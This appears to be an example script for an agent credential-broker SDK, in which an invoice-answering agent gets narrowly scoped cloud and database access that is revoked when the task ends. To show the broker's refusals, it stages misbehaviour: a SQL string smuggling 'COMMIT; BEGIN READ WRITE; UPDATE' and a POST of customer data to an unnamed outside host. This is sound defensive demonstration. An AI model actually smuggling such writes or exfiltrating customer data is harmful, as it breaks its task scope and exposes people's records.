/**
 * An example agent, written with the SDK: it answers one customer's question about an invoice. It holds
 * nothing when it starts: its platform vouches for it, and each credential comes when it is needed, cut down
 * to this task.
 *
 * It also does what an agent should not: reach outside its task, and go on after its end, to show who stops
 * it.
 */
import { createRequire } from 'node:module';
import { setTimeout as pause } from 'node:timers/promises';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { Storage, type StorageOptions } from '@google-cloud/storage';
import { Octokit } from '@octokit/rest';
import pg from 'pg';
import {
  awsCredentialsOf,
  githubActionsToken,
  googleAuthClient,
  octokitOptions,
  postgresOptions,
  type Session,
  Writ,
  WritDenied,
  WritError,
} from '../../client/index.ts';
import { createSteps } from './steps.ts';

type StorageAuthClient = Extract<StorageOptions['authClient'], { setCredentials: unknown }>;

const { WRIT_URL, AWS_ENDPOINT_URL, STORAGE_URL, SHOP_DATABASE } = process.env as Record<string, string>;
const customer = '42';
const steps = createSteps();
const { step, works, refused } = steps;

step('1', 'Open a session for one task, from the platform’s OIDC token');
const session = await Writ.openSession({
  url: WRIT_URL!,
  subjectToken: githubActionsToken(),
  taskType: 'answer-invoice-question',
  inputs: { customer_id: customer },
  onBehalfOf: 'user:owner@example.com',
});
steps.say(
  `session ${session.id}, until ${session.expiresAt.toISOString()}, bound to a key that never leaves this process`,
);
process.send?.({ session: session.id });

step('2', 'AWS, by policy alone: the files of this customer, and no others');
const files = await session.grant(
  'read-customer-files',
  {},
  { type: 'aws', justification: 'The customer asks what invoice 7 says.' },
);
steps.say(`${files.summary.join('; ')} · ${files.ttlSeconds} s`);
const s3 = s3Client(awsCredentialsOf(files));
const readInvoice = () =>
  s3
    .send(new GetObjectCommand({ Bucket: 'orders', Key: `customers/${customer}/invoice.txt` }))
    .then((answer) => answer.Body!.transformToString());
await works('read customers/42/invoice.txt', readInvoice);
await refused('read customers/43/invoice.txt', () =>
  s3.send(new GetObjectCommand({ Bucket: 'orders', Key: 'customers/43/invoice.txt' })),
);
await refused('read payroll/march.csv', () => s3.send(new GetObjectCommand({ Bucket: 'payroll', Key: 'march.csv' })));

step('3', 'GitHub, by policy alone: one repository, read-only');
const policy = await session.grant('read-policy-repository', {}, { type: 'github' });
steps.say(`${policy.summary.join('; ')} · ${policy.ttlSeconds} s`);
const octokit = new Octokit({ ...octokitOptions(policy), log: quiet() });
const readPolicy = () =>
  octokit.repos.getContent({ owner: 'example-org', repo: 'orders', path: 'docs/invoice-policy.md' }).then(({ data }) =>
    Buffer.from('content' in data ? data.content : '', 'base64')
      .toString()
      .trim(),
  );
await works('read example-org/orders docs/invoice-policy.md', readPolicy);
await refused('write it', () =>
  octokit.repos.createOrUpdateFileContents({
    owner: 'example-org',
    repo: 'orders',
    path: 'docs/new.md',
    message: 'x',
    content: 'eA==',
  }),
);
await refused('read example-org/payroll', () =>
  octokit.repos.getContent({ owner: 'example-org', repo: 'payroll', path: 'README.md' }),
);

step('4', 'Google Cloud, by policy alone: this customer’s statements');
const statements = await session.grant('read-statements', {}, { type: 'gcp' });
steps.say(`${statements.summary.join('; ')} · ${statements.ttlSeconds} s`);
const bucket = storageClient(await googleAuthClient(statements, { OAuth2Client: storageOAuth2Client() })).bucket(
  'statements',
);
const readStatement = () =>
  bucket
    .file(`customers/${customer}/march.txt`)
    .download()
    .then(([content]) => content.toString());
await works('read statements/customers/42/march.txt', readStatement);
await works('list statements/customers/42/', () =>
  bucket.getFiles({ prefix: `customers/${customer}/` }).then(([found]) => found.map(({ name }) => name).join(', ')),
);
await refused('read statements/customers/43/march.txt', () => bucket.file('customers/43/march.txt').download());
await refused('list statements/customers/43/', () => bucket.getFiles({ prefix: 'customers/43/' }));
await refused('write into statements', () =>
  bucket.file(`customers/${customer}/new.txt`).save('x', { resumable: false }),
);

step('5', 'PostgreSQL, by policy alone: the rows of this customer, with a login made for this task');
const ask = SHOP_DATABASE === undefined ? null : await openShop();
if (ask === null) {
  steps.say('left out: there is no server');
} else {
  await works('read orders', () => ask('SELECT id, amount, due::text FROM orders ORDER BY id LIMIT 3'));
  await works('whose orders are there', () => ask('SELECT DISTINCT customer_id FROM orders'));
  await refused('read a column that is not in the plan', () => ask('SELECT secret_margin FROM orders'));
  await refused('change an order', () => ask('COMMIT; BEGIN READ WRITE; UPDATE orders SET amount = 0'));
  await refused('read customers', () => ask('SELECT name FROM customers'));
}

step('6', 'A high-impact capability: a person must agree to the exact permission');
const correction = await agreed(
  session.grant(
    'correct-customer-invoice',
    {},
    {
      type: 'aws',
      justification: 'Invoice 7 has the wrong amount.',
      onPending: (grant) => {
        steps.say(`parked; waiting for an approver: ${grant.approvalUrl}`);
        process.send?.({ approvalUrl: grant.approvalUrl });
      },
    },
  ),
);
const writer = correction === null ? null : s3Client(awsCredentialsOf(correction));
const writeInvoice = (client: S3Client, of: string) =>
  client
    .send(
      new PutObjectCommand({
        Bucket: 'orders',
        Key: `customers/${of}/invoice.txt`,
        Body: 'Invoice 7, customer 42: 100.00',
      }),
    )
    .then(() => 'written');
if (correction !== null && writer !== null) {
  steps.say(`approved: ${correction.summary.join('; ')} · ${correction.ttlSeconds} s`);
  await works('write customers/42/invoice.txt', () => writeInvoice(writer, customer));
  await refused('write customers/43/invoice.txt', () => writeInvoice(writer, '43'));
}

step('7', 'End the task: every credential dies with it');
const { leases } = await session.end({ waitSeconds: 30 });
for (const lease of leases)
  steps.check(
    lease.status === 'revoked',
    `${lease.provider} lease ${lease.id}: ${lease.status}`,
    JSON.stringify(lease.evidence),
  );
steps.say('each credential once more, at its provider:');
await refused('AWS, reading', readInvoice);
if (writer !== null) await refused('AWS, writing', () => writeInvoice(writer, customer));
await refused('GitHub', readPolicy);
await refused('Google Cloud', readStatement);
if (ask !== null) await refused('PostgreSQL', () => ask('SELECT id FROM orders'));

step('8', 'What it did before decides what it may do now: it reads a customer’s file, and tries to post it');
const run = await Writ.openSession({
  url: WRIT_URL!,
  subjectToken: githubActionsToken(),
  taskType: 'answer-invoice-question',
  inputs: { customer_id: customer },
  onBehalfOf: 'user:owner@example.com',
});
steps.say(`session ${run.id}, for another question`);
process.send?.({ session: run.id });
const newKey = async () => s3Client(awsCredentialsOf(await run.grant('read-customer-files', {}, { type: 'aws' })));
const key = await newKey();
const readFile = (client: S3Client) =>
  client
    .send(new GetObjectCommand({ Bucket: 'orders', Key: `customers/${customer}/invoice.txt` }))
    .then((answer) => answer.Body!.transformToString());
const reading = await run.call('read_file', { path: `customers/${customer}/invoice.txt` });
const content = await readFile(key);
await reading.finish({ outcome: 'response', output: content });
steps.check(true, 'read_file', 'allowed, and reported');
const known = await run.evaluate('http_post', { url: 'https://api.example.com/answers', body: content });
steps.check(known.effect === 'allow', 'http_post to a known host', known.effect);
const posted = await run.evaluate('http_post', { url: 'https://collect.elsewhere.test/', body: content });
steps.check(
  posted.effect === 'suspend',
  'refused: http_post to a host that nobody named',
  `${posted.effect}: ${posted.reasons.map(({ advice }) => advice).join(' ')}`,
);
await untilRefused(() => readFile(key));
await refused('its AWS key, a moment later', () => readFile(key));
await refused('a new key, while it is suspended', () => run.grant('read-customer-files', {}, { type: 'aws' }));
steps.say(`a person must look at it: ${posted.approval?.url}`);
process.send?.({ approvalUrl: posted.approval?.url, button: 'Let it go on' });
while ((await stateOf(run)) === 'suspended') await pause(200);
await refused('the old key stays dead', () => readFile(key));
if ((await stateOf(run)) === 'active') {
  const anew = await newKey();
  await works('a person let it go on, and it asks for a new key', () => readFile(anew));
  await run.end({ waitSeconds: 30 });
  anew.destroy();
} else {
  steps.say('nobody let it go on: its session has ended, and what it held is dead');
  process.send?.({ undecided: true });
}
key.destroy();

s3.destroy();
writer?.destroy();
process.exitCode = steps.failed() === 0 ? 0 : 1;
process.disconnect?.();

/** @returns null when nobody agreed: the task goes on without */
async function agreed<T>(asked: Promise<T>): Promise<T | null> {
  try {
    return await asked;
  } catch (error) {
    if (!(error instanceof WritDenied)) throw error;
    const late = error.reasons.some(({ code }) => code === 'timeout');
    steps.say(`not approved, so not done: ${late ? 'nobody decided in time' : error.message}`);
    process.send?.({ undecided: true });
    return null;
  }
}

/** `ended` too when the broker knows the session no more. */
async function stateOf(of: Session): Promise<string> {
  return of.overview().then(
    ({ session: { status } }) => status,
    (error) => {
      if (error instanceof WritError && error.status === 401) return 'ended';
      throw error;
    },
  );
}

/** @returns what logs in, asks, and shows the rows */
async function openShop(): Promise<(text: string) => Promise<string>> {
  const orders = await session.grant('read-orders', {}, { type: 'postgres' });
  steps.say(`${orders.summary.join('; ')} · ${orders.ttlSeconds} s`);
  return async (text) => {
    const client = new pg.Client(postgresOptions(orders));
    await client.connect();
    try {
      const { rows } = await client.query({ text, rowMode: 'array' });
      return rows.map((row) => row.join(' · ')).join(', ');
    } finally {
      await client.end();
    }
  };
}

/** Credentials that are revoked are refused after the provider's own lag. */
async function untilRefused(attempt: () => Promise<unknown>): Promise<void> {
  while (
    await attempt().then(
      () => true,
      () => false,
    )
  )
    await pause(50);
}

function s3Client(credentials: ReturnType<typeof awsCredentialsOf>): S3Client {
  return new S3Client({
    endpoint: AWS_ENDPOINT_URL!,
    region: 'us-east-1',
    forcePathStyle: true,
    credentials,
    maxAttempts: 1,
  });
}

function storageClient(authClient: StorageAuthClient): Storage {
  return new Storage({
    apiEndpoint: STORAGE_URL!,
    // Only because of the endpoint, which is not Google's own: without it the client would send no token.
    useAuthWithCustomEndpoint: true,
    authClient,
    projectId: 'demo-project',
    retryOptions: { autoRetry: false },
  });
}

/**
 * The class of the google-auth-library that Google's storage client was built with. A plain import would do
 * where only one is installed; here there is a newer one, whose headers the storage client loses.
 */
function storageOAuth2Client(): new () => StorageAuthClient {
  return createRequire(import.meta.resolve('@google-cloud/storage'))('google-auth-library').OAuth2Client;
}

/** Octokit warns on the console about each refusal; here they are the point. */
function quiet() {
  const nothing = () => {};
  return { debug: nothing, info: nothing, warn: nothing, error: nothing };
}
